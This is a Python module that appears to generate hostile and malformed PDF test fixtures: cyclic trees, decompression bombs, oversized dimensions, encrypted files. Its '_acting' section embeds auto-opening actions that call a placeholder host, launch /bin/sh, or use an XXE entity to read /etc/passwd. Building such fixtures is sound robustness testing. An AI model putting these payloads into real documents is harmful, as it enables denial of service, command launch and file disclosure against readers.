"""PDF files that lead readers in circles, claim the impossible, or want to act."""

from __future__ import annotations

import io
import warnings
import zlib
from typing import Literal

import pikepdf

from samples.hostile.item import Item, Items, pdf

Objects = dict[int, bytes]


def pdfs() -> Items:
    """Yield PDF files."""
    yield from _circles()
    yield from _claims()
    yield from _acting()
    yield from _locked()
    yield Item(
        "broken-pdf", "no-pages.pdf", _file({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: _tree([])})
    )
    yield Item("broken-pdf", "no-root.pdf", b"%PDF-1.7\ntrailer<</Size 1>>\n%%EOF")
    yield Item("broken-pdf", "no-xref.pdf", pdf().replace(b"startxref", b"starthere"))
    yield Item("broken-pdf", "late-head.pdf", b"\n" * 900 + pdf())
    yield Item("broken-pdf", "later-head.pdf", b"\n" * 2_000 + pdf())
    yield Item("broken-pdf", "half-stream.pdf", _page(b"/Filter/FlateDecode", _half()))
    yield Item("broken-pdf", "filters.pdf", _page(b"/Filter[" + b"/FlateDecode " * 50 + b"]", b"x"))
    yield Item("broken-pdf", "unknown-filter.pdf", _page(b"/Filter/Nothing", b"x"))
    yield Item("broken-pdf", "jbig2.pdf", _picture(b"/JBIG2Decode", b"\x97JB2" * 20, 100, 100))
    yield Item("broken-pdf", "jpx.pdf", _picture(b"/JPXDecode", b"\0\0\0\x0cjP  " * 9, 100, 100))
    yield Item("broken-pdf", "fax.pdf", _picture(b"/CCITTFaxDecode", b"\x55" * 300, 40_000, 40_000))


def _circles() -> Items:
    catalog = b"<</Type/Catalog/Pages 2 0 R>>"
    yield Item("cyclic", "tree.pdf", _file({1: catalog, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}))
    both = {2: b"<</Type/Pages/Kids[3 0 R]/Count 9>>", 3: b"<</Type/Pages/Kids[2 0 R]/Count 9>>"}
    yield Item("cyclic", "trees.pdf", _file({1: catalog, **both}))
    yield Item("cyclic", "reference.pdf", _file({1: catalog, 2: b"2 0 R"}))
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>"
    inside = _stream(form, b"/F Do /F Do")
    shown = _file({**_one_page(b"<</XObject<</F 5 0 R>>>>", b"/F Do"), 5: inside})
    yield Item("cyclic", "form.pdf", shown)
    fan = {number: _stream(_form(number + 1), b"/F Do " * 12) for number in range(5, 14)}
    fan[14] = _stream(form[:-2] + b">>", b"0 0 1 1 re f")
    yield Item(
        "bomb", "fan.pdf", _file({**_one_page(b"<</XObject<</F 5 0 R>>>>", b"/F Do"), **fan})
    )
    yield Item("cyclic", "previous.pdf", pdf().replace(b"/Root", b"/Prev 9 /Root"))
    length = {4: b"<</Length 4 0 R>>stream\nx\nendstream"}
    yield Item("cyclic", "length.pdf", _file({**_one_page(b"<<>>", b""), **length}))
    for depth in (200, 20_000):
        nested = b"[" * depth + b"]" * depth
        yield Item("deep", f"arrays-{depth}.pdf", _file({**_one_page(b"<<>>", b""), 5: nested}))
        deep = _page(b"", b"[" * depth + b"]" * depth + b" TJ")
        yield Item("deep", f"content-{depth}.pdf", deep)
        states = _page(b"", b"q " * depth + b"Q " * depth)
        yield Item("deep", f"states-{depth}.pdf", states)
    tree: Objects = {1: catalog}
    for number in range(2, 1_200):
        tree[number] = b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1)
    tree[1_200] = b"<</Type/Page/MediaBox[0 0 300 400]>>"
    yield Item("deep", "tree-1200.pdf", _file(tree))


def _claims() -> Items:
    boxes = (b"0 0 200000 200000", b"0 0 0 0", b"0 0 1e30 1e30", b"-5 -5 -9 -9", b"0 0 nan 1", b"")
    for place, box in enumerate(boxes):
        yield Item("dimensions", f"box-{place}.pdf", _page(b"", b"0 0 9 9 re f", box))
    for width, height in ((60_000, 60_000), (2**31 - 1, 2**31 - 1), (-1, 10), (20_000, 20_000)):
        data = zlib.compress(bytes(1_000))
        made = _picture(b"/FlateDecode", data, width, height)
        yield Item("dimensions", f"picture-{width}.pdf", made)
    yield Item("too-many", "pages.pdf", _many_pages(1_700))
    whole = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 99999999>>"}
    yield Item("too-many", "count.pdf", _file(whole))
    yield Item(
        "bomb", "content.pdf", _page(b"/Filter/FlateDecode", zlib.compress(b"q Q " * 3_000_000))
    )
    twice = zlib.compress(zlib.compress(bytes(60_000_000)))
    yield Item("bomb", "stream.pdf", _page(b"/Filter[/FlateDecode/FlateDecode]", twice))
    strokes = b"".join(
        b"%d %d m %d %d l S\n" % (i % 595, i % 842, i % 17, i % 31) for i in range(200_000)
    )
    yield Item("slow", "strokes.pdf", _page(b"/Filter/FlateDecode", zlib.compress(strokes)))
    pattern = b"/Pattern cs /P scn 0 0 595 842 re f"
    tile = b"<</PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .001/YStep .001"
    objects = {**_one_page(b"<</Pattern<</P 5 0 R>>>>", pattern), 5: _stream(tile, b"0 0 1 1 re f")}
    yield Item("slow", "tiles.pdf", _file(objects))


def _acting() -> Items:
    for name, action in (
        ("script", b"/S/JavaScript/JS(app.launchURL\\('http://198.51.100.1/'\\);)"),
        ("launch", b"/S/Launch/F(/bin/sh)"),
        ("address", b"/S/URI/URI(http://198.51.100.1/)"),
        ("submit", b"/S/SubmitForm/F<</FS/URL/F(http://198.51.100.1/)>>"),
        ("remote", b"/S/GoToR/F(\\\\\\\\198.51.100.1\\\\share\\\\a.pdf)/D[0/Fit]"),
    ):
        objects = _one_page(b"<<>>", b"0 0 9 9 re f")
        objects[1] = b"<</Type/Catalog/Pages 2 0 R/OpenAction<<" + action + b">>>>"
        yield Item("acting", f"{name}.pdf", _file(objects))
    outside = b"<</Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray"
    outside += b"/BitsPerComponent 8/F<</FS/URL/F(http://198.51.100.1/a)>>"
    objects = {**_one_page(b"<</XObject<</F 5 0 R>>>>", b"/F Do"), 5: _stream(outside, b"")}
    yield Item("remote", "outside.pdf", _file(objects))
    xfa = _one_page(b"<<>>", b"")
    xfa[1] = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 5 0 R/Fields[]>>>>"
    xfa[5] = _stream(b"<<", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
    yield Item("entities", "xfa.pdf", _file(xfa))


def _locked() -> Items:
    ways: tuple[tuple[Literal[2, 3, 4, 5, 6], bool], ...]
    ways = ((2, False), (3, False), (4, False), (4, True), (5, True), (6, True))
    for revision, aes in ways:
        out = io.BytesIO()
        with warnings.catch_warnings(), pikepdf.open(io.BytesIO(pdf())) as document:
            warnings.simplefilter("ignore")
            lock = pikepdf.Encryption("owner", "secret", R=revision, aes=aes, metadata=aes)
            document.save(out, encryption=lock)
        mark = f"{revision}{'aes' if aes else ''}"
        yield Item("locked", f"locked-{mark}.pdf", out.getvalue())


def _file(objects: Objects) -> bytes:
    """A file with these objects, the first of which is the catalogue, and a table that fits."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 %s \n" % (places.get(number, 0), b"n" if number in places else b"f")
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, table)
    return bytes(out)


def _tree(kids: list[int]) -> bytes:
    listed = b" ".join(b"%d 0 R" % kid for kid in kids)
    return b"<</Type/Pages/Kids[" + listed + b"]/Count %d>>" % len(kids)


def _stream(opened: bytes, data: bytes) -> bytes:
    """A stream; `opened` is its dictionary without the end."""
    head = opened.removesuffix(b">>") + b"/Length %d>>" % len(data)
    return head + b"stream\n" + data + b"\nendstream"


def _form(following: int) -> bytes:
    used = b"<</XObject<</F %d 0 R>>>>" % following
    return b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources" + used


def _one_page(resources: bytes, content: bytes, box: bytes = b"0 0 595 842") -> Objects:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[" + box + b"]/Contents 4 0 R/Resources " + resources
    return {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: _tree([3]),
        3: page + b">>",
        4: _stream(b"<<", content),
    }


def _page(entries: bytes, content: bytes, box: bytes = b"0 0 595 842") -> bytes:
    objects = _one_page(b"<<>>", b"", box)
    objects[4] = _stream(b"<<" + entries, content)
    return _file(objects)


def _picture(way: bytes, data: bytes, width: int, height: int) -> bytes:
    head = b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray" % (
        width,
        height,
    )
    head += b"/BitsPerComponent 8/Filter" + way
    shown = _one_page(b"<</XObject<</F 5 0 R>>>>", b"q 595 0 0 842 0 0 cm /F Do Q")
    return _file({**shown, 5: _stream(head, data)})


def _many_pages(count: int) -> bytes:
    objects: Objects = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: _tree(list(range(3, 3 + count)))}
    for number in range(3, 3 + count):
        objects[number] = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]>>"
    return _file(objects)


def _half() -> bytes:
    whole = zlib.compress(b"0 0 9 9 re f " * 4_000)
    return whole[: len(whole) // 2]
